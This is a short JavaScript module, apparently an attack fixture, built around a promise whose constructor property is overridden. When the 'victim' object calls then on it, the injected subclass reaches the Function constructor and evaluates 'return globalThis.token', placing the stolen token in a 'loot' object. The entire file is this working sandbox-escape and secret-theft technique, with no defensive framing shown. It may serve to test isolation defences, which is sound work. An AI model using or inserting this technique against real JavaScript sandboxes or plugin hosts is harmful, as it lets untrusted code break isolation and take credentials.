module.exports = (victim, loot) => {
  const promise = Promise.resolve('x');
  promise.constructor = class extends Promise { constructor(run) { super(run); loot.value = run.constructor('return globalThis.token')(); } };
  victim.take(promise);
  promise.then();
};
